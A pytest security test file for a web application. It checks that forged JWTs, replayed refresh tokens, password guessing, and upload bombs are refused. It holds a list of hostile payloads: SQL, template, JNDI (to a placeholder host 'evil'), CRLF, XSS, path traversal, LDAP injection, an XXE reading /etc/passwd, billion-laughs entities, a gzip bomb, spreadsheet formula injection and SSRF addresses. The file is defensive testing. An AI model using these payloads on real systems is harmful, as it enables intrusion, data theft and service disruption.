"""What an attacker tries: forged and stolen tokens, guessing, injection, files that burst,
formulas, foreign hosts.
"""

import base64
import gzip
import hashlib
import io
import json
import statistics
import time as real
import uuid
import zipfile
from datetime import UTC, datetime, timedelta

import jwt
import openpyxl
import pytest
from PIL import Image

from app.core.db import db, transaction
from app.core.sheets import csv_file, workbook
from app.people.models import Officer
from app.people.service import HASHER
from app.people.service.access_tokens import AUDIENCE
from tests.support import filings, world
from tests.support import people as people_at

INJECTIONS = (
    "' OR '1'='1",
    "'; DROP TABLE incident; --",
    "1) UNION SELECT password_hash FROM officer --",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${jndi:ldap://evil/a}",
    "\r\nSet-Cookie: admin=1",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "%0d%0aX-Injected: 1",
    "*)(uid=*))(|(uid=*",
)


def forged(claims, key, algorithm="HS256", **headers):
    return jwt.encode(claims, key, algorithm=algorithm, headers=headers or None)


def test_forged_tokens_open_nothing(app, people):
    in_an_hour = datetime.now(UTC) + timedelta(hours=1)
    good = {"sub": str(people.admin.id), "aud": AUDIENCE, "exp": in_an_hour}
    key = app.config["SECRET_KEY"]
    head = base64.urlsafe_b64encode(b'{"alg":"none","typ":"JWT"}').rstrip(b"=").decode()
    body = (
        base64.urlsafe_b64encode(json.dumps(good | {"exp": 4102444800}).encode())
        .rstrip(b"=")
        .decode()
    )
    tokens = [
        f"{head}.{body}.",
        forged(good, "another key of thirty-two characters"),
        forged(good, key, "HS512"),
        forged(good | {"aud": "another program"}, key),
        forged({k: v for k, v in good.items() if k != "exp"}, key),
        forged({k: v for k, v in good.items() if k != "aud"}, key),
        forged(good | {"exp": datetime.now(UTC) - timedelta(seconds=1)}, key),
        forged(good | {"sub": "999999"}, key),
        forged(good | {"sub": "1 OR 1=1"}, key),
        "not.a.token",
    ]
    client = app.test_client()
    for token in tokens:
        answer = client.get("/api/v1/me", headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 401, token
        assert answer.json["code"] in ("signed_out", "token_expired")
    assert (
        client.get(
            "/api/v1/me", headers={"Authorization": f"Bearer {forged(good, key)}"}
        ).status_code
        == 200
    )


def test_a_token_that_was_taken_before_ends_at_its_time(app, people):
    claims = {"sub": str(people.wang.id), "aud": AUDIENCE}
    ends = datetime.now(UTC) + timedelta(seconds=2)
    token = forged(claims | {"exp": ends}, app.config["SECRET_KEY"])
    client, taken = app.test_client(), 0
    while True:
        answer = client.get("/api/v1/me", headers={"Authorization": f"Bearer {token}"})
        if answer.status_code != 200:
            break
        taken += 1
        assert datetime.now(UTC) < ends
    assert taken
    assert answer.json["code"] == "token_expired"


def test_a_stolen_refresh_token_ends_the_whole_sign_in_and_the_owner_is_told(people):
    wang = people.wang
    stolen = wang.session["refresh_token"]
    second = wang.post("/auth/refresh", {"refresh_token": stolen}).json["refresh_token"]
    third = wang.post("/auth/refresh", {"refresh_token": second}).json["refresh_token"]
    assert wang.post("/auth/refresh", {"refresh_token": stolen}).json["code"] == "token_revoked", (
        "replayed by the thief"
    )
    assert wang.post("/auth/refresh", {"refresh_token": third}).json["code"] == "token_revoked", (
        "and nobody goes on with what grew from it"
    )
    assert any(notice["kind"] == "token_theft" for notice in wang.get("/notices").json["items"])


def test_tokens_of_somebody_who_left_or_changed_posts_open_nothing_more(app, people, time):
    assert people.wang.get("/incidents").status_code == 200
    people.east.put(f"/officers/{people.wang.id}", {"ends_on": "2026-06-30"})
    assert people.wang.get("/incidents").json["code"] == "signed_out", (
        "at once, though the token is good for an hour"
    )
    assert (
        people.wang.post(
            "/auth/refresh", {"refresh_token": people.wang.session["refresh_token"]}
        ).status_code
        == 401
    )


def test_a_hash_costs_a_guesser_what_is_advised(price_of_service):
    # the second choice of RFC 9106; OWASP asks for a third of its memory
    assert HASHER.hash("x").startswith("$argon2id$v=19$m=65536,t=3,p=4$")


def test_an_unknown_user_takes_as_long_to_refuse_as_a_known_one(
    app, people, time, price_of_service
):
    with app.app_context(), transaction():
        db.session.scalars(
            db.select(Officer).where(Officer.username == "li")
        ).one().password_hash = HASHER.hash("a password")
    client = app.test_client()

    def spent(username):
        began = real.process_time()
        answer = client.post(
            "/api/v1/auth/login",
            json={"username": username, "password": "wrong"},
            environ_base={"REMOTE_ADDR": f"203.0.113.{uuid.uuid4().int % 250}"},
        )
        assert answer.json["code"] == "wrong_credentials"
        return real.process_time() - began

    spent("li")
    pairs = [(spent("li"), spent(f"nobody{n}")) for n in range(7)]
    known, unknown = (statistics.median(column) for column in zip(*pairs, strict=True))
    assert 0.5 < known / unknown < 2, (known, unknown)


def test_many_guesses_at_once_are_slowed_like_many_in_a_row(app, people, time):
    client = app.test_client()
    codes = [
        client.post("/api/v1/auth/login", json={"username": "chief", "password": f"guess{n}"}).json[
            "code"
        ]
        for n in range(8)
    ]
    assert codes[:5] == ["wrong_credentials"] * 5
    assert set(codes[5:]) == {"slow_down"}
    elsewhere = client.post(
        "/api/v1/auth/login",
        json={"username": "chief", "password": world.PASSWORD},
        environ_base={"REMOTE_ADDR": "203.0.113.7"},
    )
    assert elsewhere.status_code == 200, "the account itself is never locked"


def login_from(app, address, username, password):
    body = {"username": username, "password": password}
    return app.test_client().post(
        "/api/v1/auth/login", json=body, environ_base={"REMOTE_ADDR": address}
    )


def test_guessers_of_one_account_from_everywhere_wait_and_its_owner_does_not(app, people, time):
    assert login_from(app, "198.51.100.1", "wang", world.PASSWORD).status_code == 200
    codes = [login_from(app, f"203.0.113.{n}", "wang", f"guess{n}").json["code"] for n in range(22)]
    assert codes[:20] == ["wrong_credentials"] * 20
    assert codes[21] == "slow_down"
    told = login_from(app, "192.0.2.9", "wang", world.PASSWORD)
    assert told.json["code"] == "slow_down"
    assert 1 <= int(told.headers["Retry-After"]) <= 60
    home = login_from(app, "198.51.100.1", "wang", world.PASSWORD)
    assert home.status_code == 200, "known from there"
    time.forward(minutes=2)
    assert login_from(app, "192.0.2.9", "wang", world.PASSWORD).status_code == 200


def test_one_line_that_tries_a_password_at_all_accounts_waits(app, people, time):
    lines = [f"2001:db8:0:7::{n:x}" for n in range(1, 104)]
    codes = [login_from(app, at, f"name{n}", "guess").json["code"] for n, at in enumerate(lines)]
    assert codes[:100] == ["wrong_credentials"] * 100
    assert codes[102] == "slow_down"
    assert login_from(app, "2001:db8:0:7::abcd", "wang", world.PASSWORD).status_code == 429
    assert login_from(app, "2001:db8:0:8::1", "wang", world.PASSWORD).status_code == 200
    time.forward(days=1, minutes=2)
    again = [login_from(app, lines[0], f"nobody{n}", "guess").json["code"] for n in range(3)]
    assert again == ["wrong_credentials"] * 3, "after a quiet day counting begins anew"


def test_a_clock_that_was_a_year_ahead_makes_nobody_wait_for_a_year(app, people, time):
    time.forward(days=400)
    for n in range(6):
        login_from(app, "203.0.113.7", "wang", f"guess{n}")
    time.set(people_at.MORNING)
    assert login_from(app, "203.0.113.7", "wang", world.PASSWORD).status_code == 200


def test_a_clock_set_months_ahead_or_back_holds_up_no_sign_in(app, people, time):
    client, wrong = app.test_client(), {"username": "chief", "password": "wrong"}
    for days in (500, -500, -500, 500):
        time.forward(days=days)
        answers = [client.post("/api/v1/auth/login", json=wrong) for _ in range(12)]
        assert answers[0].json["code"] == "wrong_credentials", "nobody waits for another time's end"
        assert answers[-1].json["code"] == "slow_down", "but for this one's"
        for answer in answers:
            assert int(answer.headers.get("Retry-After", 0)) <= 15 * 60 + 1
        time.forward(minutes=16)
    right = {"username": "chief", "password": world.PASSWORD}
    assert client.post("/api/v1/auth/login", json=right).status_code == 200


@pytest.mark.parametrize("text", INJECTIONS)
def test_text_is_only_ever_text(app, people, time, text):
    case, now = filings.new_id(), time.now()
    filed = people.wang.put(
        f"/incidents/{case}", filings.incident(now, description=text, place=text)
    )
    assert filed.status_code == 201
    shown = people.east.get(f"/incidents/{case}")
    assert shown.json["description"] == shown.json["place"] == text.strip()
    assert shown.mimetype == "application/json"
    found = people.east.get("/incidents", query_string={"q": text[:30]})
    assert found.status_code == 200
    assert "Set-Cookie" not in found.headers
    assert "X-Injected" not in found.headers
    for path in (f"/cells/{text}", f"/photos/{text}", f"/kinds/{text}"):
        assert people.east.get(path.replace("\r\n", "")).status_code in (404, 405)
    with app.app_context():
        assert db.session.scalar(db.text("SELECT count(*) FROM incident")) == 1


def test_what_bursts_is_refused_before_it_does(people):
    bomb = gzip.compress(b" " * (64 * 1024 * 1024))
    headers = {"Content-Encoding": "gzip", "Content-Type": "application/json"}
    assert (
        people.wang.call("PUT", f"/incidents/{filings.new_id()}", data=bomb, headers=headers).json[
            "code"
        ]
        == "too_large"
    )
    pixels = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(pixels, "PNG")
    name = hashlib.sha256(pixels.getvalue()).hexdigest()
    began = real.process_time()
    answer = people.wang.put(f"/photos/{name}", data=pixels.getvalue())
    assert answer.status_code in (201, 413, 415)
    assert real.process_time() - began < 2, "never decoded here"


def lone_cell():
    """A workbook of five kilobytes whose only cell lies far down and right."""
    book = openpyxl.Workbook()
    book.active["XFD5000"] = "x"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def many_parts():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(5000):
            archive.writestr(f"xl/{n}.xml", "")
    return out.getvalue()


def entities():
    """A workbook whose strings multiply by a billion when they are read, and one that asks for a
    file.
    """
    text = (
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]>"
    )
    return with_strings(
        text
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>'
    )


def reaches_outside():
    text = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    return with_strings(
        text
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&a;</t></si></sst>'
    )


def with_strings(xml):
    book = openpyxl.Workbook()
    book.active.append(["username", "name"])
    first = io.BytesIO()
    book.save(first)
    out = io.BytesIO()
    with zipfile.ZipFile(first) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.namelist():
            new.writestr(
                item,
                f'<?xml version="1.0"?>{xml}'
                if item.endswith("sharedStrings.xml")
                else old.read(item),
            )
    return out.getvalue()


@pytest.mark.parametrize("make", [lone_cell, many_parts, entities, reaches_outside])
def test_workbooks_that_burst_or_reach_outside_are_refused_at_once(people, make):
    began = real.process_time()
    answer = people.admin.post("/officers/import?dry_run=true", data=make())
    assert answer.status_code == 422, answer.text
    assert "root:" not in answer.text
    assert real.process_time() - began < 3


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "＝1+1", " =1"]
)
def test_no_table_runs_what_people_wrote(text):
    sheet = openpyxl.load_workbook(io.BytesIO(workbook({"表": (("甲",), [(text,)])}))).worksheets[0]
    assert sheet["A2"].data_type == "s"
    assert (
        csv_file(("甲",), [(text,)]).decode("utf-8-sig").splitlines()[1].lstrip('"').startswith("'")
    )


def test_a_channel_cannot_lead_elsewhere_nor_turn_off_what_protects_it(app, people):
    app.config["CHANNELS"] = frozenset({"wecombot", "json"})
    try:
        for address in (
            "wecombot://key?verify=no",
            "wecombot://key/?redirect=yes",
            "wecombot://key/?url=http://10.0.0.1/",
            "file:///etc/passwd",
            "wecombot://a,wecombot://b",
            "json://10.0.0.1/path",  # no channel, whatever is set
            "wecombot://10.0.0.1:8080/cgi-bin",
        ):
            assert people.wang.put("/me/channel", {"address": address}).status_code == 422, address
        for address in ("wecombot://key", "wecombot://localhost:8080/cgi-bin"):
            answer = people.wang.put("/me/channel", {"address": address})
            assert answer.status_code == 204, "a key and no more, whatever it looks like"
            url = _service_of(app, address).api_url
            assert url.startswith("https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key="), url
    finally:
        app.config["CHANNELS"] = frozenset()


def _service_of(app, address):
    from app.notices import channels

    with app.app_context():
        return channels._service(address)


def test_downloads_name_their_file_themselves(people, things):
    """After what they are, never after what somebody sent."""
    sha = things["sha"]
    for person, path, named in (
        (people.east, f"/photos/{sha}", f"inline; filename={sha[:16]}.jpg"),
        (people.east, f"/photos/{sha}?size=small", f"inline; filename={sha[:16]}.jpg"),
        (
            *(people.wang, f"/patrols/{things['patrol']}.gpx"),
            f"attachment; filename={things['patrol']}.gpx",
        ),
        (people.admin, "/officers/template.xlsx", "attachment; filename=roster.xlsx"),
        (people.east, "/incidents.csv", "attachment; filename=incidents.csv"),
        (people.inspector, "/access-records/export.csv", "attachment; filename=access-records.csv"),
        (people.east, "/cells/export.xlsx", "attachment; filename=cells.xlsx"),
    ):
        assert person.get(path).headers["Content-Disposition"] == named, path
    document = people.east.get(f"/documents/{things['document']}.docx")
    assert document.headers["Content-Disposition"].startswith("attachment; filename")


def test_no_answer_shows_how_the_program_is_built(app, people):
    for path, headers in (
        ("/api/v1/incidents?cursor=%00", {}),
        ("/api/v1/incidents/1", {}),
        ("/x" * 3000, {}),
        ("/", {"Host": "evil"}),
    ):
        text = app.test_client().get(path, headers=people.wang.headers | headers).text
        for word in ("Traceback", "sqlalchemy", "psycopg", "site-packages", "werkzeug"):
            assert word not in text.lower() if word.islower() else word not in text
